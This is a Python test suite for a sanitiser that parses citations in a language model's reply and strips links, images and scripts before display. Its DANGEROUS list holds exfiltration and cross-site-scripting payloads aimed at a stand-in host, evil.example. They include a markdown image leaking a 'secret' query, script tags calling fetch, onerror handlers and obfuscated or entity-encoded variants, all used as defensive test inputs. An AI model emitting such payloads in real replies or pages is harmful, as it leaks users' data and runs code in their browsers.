"""What a model wrote becomes sentences with the passages that they cite; whatever a page would fetch or run is gone."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from twinrank.answer.claims import parse, plain
from twinrank.answer.unseen import without_unseen


def said(reply: str, *given_numbers: int) -> list[tuple[str, tuple[int, ...], tuple[int, ...]]]:
    parsed = parse(reply, set(given_numbers or (1, 2, 3)))
    return [(written.text, written.citations, written.removed) for written in parsed.sentences]


@pytest.mark.parametrize(
    ("reply", "expected"),
    [
        ("Zinc helps [1]. Honey too [2].", [("Zinc helps.", (1,)), ("Honey too.", (2,))]),
        ("Zinc helps. [1] Honey too. [2]", [("Zinc helps.", (1,)), ("Honey too.", (2,))]),
        ("Zinc helps.[1][3] Honey too.", [("Zinc helps.", (1, 3)), ("Honey too.", ())]),
        ("Zinc helps[1, 2].", [("Zinc helps.", (1, 2))]),
        ("Zinc helps [1-3].", [("Zinc helps.", (1, 2, 3))]),
        ("Zinc helps [passage 2].", [("Zinc helps.", (2,))]),
        ("Zinc helps [Source 1][Source 2].", [("Zinc helps.", (1, 2))]),
        ("Zinc helps【2†source】.", [("Zinc helps.", (2,))]),
        ("Zinc helps [1](https://a.example/b).", [("Zinc helps.", (1,))]),
        ("Zinc helps [[2]](https://a.example/b).", [("Zinc helps.", (2,))]),
        ("- Zinc helps [1]\n- Honey too [2]", [("Zinc helps", (1,)), ("Honey too", (2,))]),
        ("Zinc helps.\n\n[1]", [("Zinc helps.", (1,))]),
        ("**Zinc** helps, says `a1` [1].", [("Zinc helps, says a1.", (1,))]),
        ("Zinc helps [1] and honey helps [1].", [("Zinc helps and honey helps.", (1,))]),
        ("亜鉛は効く [1]。蜂蜜も [2]。", [("亜鉛は効く。", (1,)), ("蜂蜜も。", (2,))]),
        ("", []),
        ("[1]", []),
        ("...", []),
    ],
)  # fmt: skip
def test_a_sentence_keeps_the_numbers_that_it_cites(reply: str, expected: list[tuple[str, tuple[int, ...]]]) -> None:
    assert [(text, cited) for text, cited, _ in said(reply)] == expected


def test_what_a_model_thinks_aloud_is_no_part_of_its_answer() -> None:
    parsed = parse("<think>Passage [2] lies.\nLet me see.</think>Zinc helps [1].", {1, 2})
    assert ([written.text for written in parsed.sentences], parsed.links) == (["Zinc helps."], 0)
    assert parse("<think>without end", {1}).sentences == ()


def test_a_number_that_was_not_given_is_taken_out_and_told() -> None:
    assert said("Zinc helps [1][7]. Honey too [99].") == [("Zinc helps.", (1,), (7,)), ("Honey too.", (), (99,))]


def test_a_citation_of_a_million_passages_does_not_take_memory() -> None:
    (written,) = parse("Zinc helps [1-9999].", {1, 2}).sentences
    assert written.citations == (1, 2)
    assert len(written.removed) < 50


DANGEROUS = [
    "![x](https://evil.example/?q=secret)",
    "![x][y]\n\n[y]: https://evil.example/?q=secret",
    "[click](https://evil.example)",
    "[click]( javascript:alert(1) )",
    "[click][z]\n\n[z]: https://evil.example",
    "<https://evil.example/a>",
    "https://evil.example/a?b=c#d",
    "HTTPS://EVIL.EXAMPLE/a",
    "ftp://evil.example/a",
    "www.evil.example/a",
    "//evil.example/a",
    "data:text/html;base64,PHNjcmlwdD4=",
    "javascript:alert(1)",
    "mailto:mallory@evil.example",
    "<img src=https://evil.example/x>",
    '<a href="//evil.example">x</a>',
    "<script>fetch('https://evil.example')</script>",
    "<scr<b></b>ipt>fetch('https://evil.example')</scr<b></b>ipt>",
    "<img src=x onerror=fetch('//evil.example/y')",
    "<!-- https://evil.example -->",
    "&lt;img src=&quot;https://evil.example/x&quot;&gt;",
    "&amp;lt;img src=https://evil.example/x&amp;gt;",
    "&#33;&#91;x&#93;&#40;https://evil.example&#41;",
    "ht\u200btps://evil.example/a",
    "<svg onload=alert(1)>https://evil.example",
    "!\u200b[x](https://evil.example)",
    "[![x](https://evil.example/i)](https://evil.example/j)",
    "[a](https://evil.example/(b)c)",
    "<think>https://evil.example</think>",
]


@pytest.mark.parametrize("piece", DANGEROUS)
@pytest.mark.parametrize("frame", ["{}", "Zinc helps {} a cold [1].", "Zinc\n{}\nhelps."])
def test_nothing_is_left_that_a_page_would_fetch_or_run(piece: str, frame: str) -> None:
    text, removed = plain(frame.format(piece))
    assert removed
    assert not re.search(r"evil\.example/?|\w://|javascript:|data:|mailto:|<[a-z/!?]|\]\(|!\[", text, re.IGNORECASE), text


@given(
    st.lists(
        st.sampled_from([*DANGEROUS, "<", ">", "[", "]", "(", ")", "!", "&lt;", "&#", "a", " ", "\n", "//", ":"]), max_size=12
    )
)
def test_no_mixture_of_these_leaves_a_link_an_image_or_a_tag(pieces: list[str]) -> None:
    text, _ = plain("".join(pieces))
    assert not re.search(r"\w://\w|<[a-zA-Z/!?]|\]\([^)]*://|!\[[^\]]*\]\(", text), text


@given(st.text(max_size=300))
def test_any_reply_is_parsed_and_cites_only_what_was_given(reply: str) -> None:
    for written in parse(reply, {1, 2}).sentences:
        assert set(written.citations) <= {1, 2}
        assert written.text.strip()


@pytest.mark.parametrize(
    "text",
    [
        "The ratio is 3:4 at 10:30; see C:\\Users and a/b, i < n, x -> y.",
        "Note: this is so. He said: yes.",
        "Use arr[i] and f(x) where 1 < 2.",
        "नमस्ते دنیا می‌خواهم 👩‍🔬 é ﬁn",
    ],
)
def test_plain_text_stays_as_it_is(text: str) -> None:
    assert plain(text) == (text, 0)


def test_what_nobody_sees_is_removed() -> None:
    assert without_unseen("a\u200bb\u2060c\ufeff\u202ed\U000e0041e\u00adf") == "abcdef"


@pytest.mark.parametrize(
    "text", ["<" * 20_000, "[" * 20_000, "![" * 10_000, "<!--" * 5_000, "[a](" * 5_000, "&lt;" * 5_000, "www." * 5_000]
)
def test_a_hostile_reply_takes_no_long_time(text: str) -> None:
    parse(text, {1})
